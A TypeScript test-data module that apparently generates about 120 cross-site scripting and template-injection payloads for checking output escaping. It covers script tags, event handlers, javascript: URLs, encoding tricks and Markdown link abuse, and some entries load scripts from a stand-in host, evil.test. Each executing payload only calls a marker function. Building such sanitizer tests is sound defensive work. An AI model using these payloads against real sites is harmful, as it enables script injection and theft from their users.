/** What a payload calls if it runs. */
const RUN = "ran()";

const CORES = [`<script>${RUN}</script>`, `<img src=x onerror=${RUN}>`, `<svg/onload=${RUN}>`];
const WAYS_OUT = [
  '">',
  "'>",
  "`>",
  "--></",
  "]]>",
  '\\">',
  "</title>",
  "</textarea>",
  "</style>",
  "</script>",
  "</noscript>",
];
const LOADING = ["img", "video", "audio", "object", "embed", "iframe", "link", "input", "body", "frameset", "track"];

const MARKUP = [
  `<details open ontoggle=${RUN}>x</details>`,
  `<video><source onerror=${RUN}></video>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}></select>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<b style="animation:a 1s" onanimationstart=${RUN}>x</b>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<math><mi xlink:href="javascript:${RUN}">x</mi></math>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s></svg>`,
  `<form action="javascript:${RUN}"><button>x</button></form>`,
  `<button formaction="javascript:${RUN}">x</button>`,
  `<a href="javascript:${RUN}">x</a>`,
  `<base href="//evil.test/">`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<style>@import"//evil.test/x.css"</style>`,
  `<div style="background:url(//evil.test/x.png)">x</div>`,
  `<script src=//evil.test/x.js></script>`,
  `<template><img src=x onerror=${RUN}></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<<script>${RUN}//<</script>`,
  `<!--<img src="--><img src=x onerror=${RUN}//">`,
  `<img src="x" alt="\`><img src=x onerror=${RUN}>`,
];

const QUOTED = [
  `";${RUN};//`,
  `';${RUN};//`,
  `\\";${RUN};//`,
  `\`+${RUN}+\``,
  `\${${RUN}}`,
  `{{${RUN}}}`,
  "{{7*7}}",
  `{{constructor.constructor('${RUN}')()}}`,
  `<%= ${RUN} %>`,
  `#{${RUN}}`,
  `[[\${${RUN}}]]`,
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `vbscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `＜script＞${RUN}＜/script＞`,
  `{"__proto__":{"ran":true}}`,
  `$RC("B:0","S:0")//</script>`,
  `self.__next_f.push([1,"${RUN}"])`,
];

const MARKDOWN = [
  `[x](javascript:${RUN})`,
  `[x](JaVaScRiPt:${RUN})`,
  `[x](java&#115;cript:${RUN})`,
  `[x](data:text/html,<script>${RUN}</script>)`,
  `[x](vbscript:${RUN})`,
  `[x](//evil.test/x "onmouseover=${RUN}")`,
  `[x](/\\evil.test)`,
  `![x](//evil.test/x.png)`,
  `![x](x"onerror="${RUN})`,
  `<javascript:${RUN}>`,
  `<https://x.test/"onclick="${RUN}>`,
  `https://x.test/"><img src=x onerror=${RUN}>`,
  `[<img src=x onerror=${RUN}>](/x)`,
  `**<img src=x onerror=${RUN}>**`,
  `\`<img src=x onerror=${RUN}>\``,
  `> <img src=x onerror=${RUN}>`,
  `| <img src=x onerror=${RUN}> |`,
  `~~<svg/onload=${RUN}>~~`,
  `# <svg/onload=${RUN}>`,
  `[x]: javascript:${RUN}`,
];

/** A hundred and twenty texts that would have an effect wherever they were not treated as plain text. */
export const PAYLOADS: readonly string[] = [
  ...CORES,
  ...WAYS_OUT.flatMap((out) => CORES.map((core) => out + core)),
  ...LOADING.map((tag) => `<${tag} src=x onerror=${RUN} onload=${RUN}>`),
  ...MARKUP,
  ...QUOTED,
  ...MARKDOWN,
  `</script><!--<script>${RUN}`,
];

/** All payloads, joined into as few texts of this length as possible. */
export function packed(longest: number, between = " "): string[] {
  const texts: string[] = [];
  for (const payload of PAYLOADS) {
    const joined = [texts.at(-1), payload].filter(Boolean).join(between);
    if (texts.length > 0 && [...joined].length <= longest) texts[texts.length - 1] = joined;
    else texts.push(payload);
  }
  return texts;
}
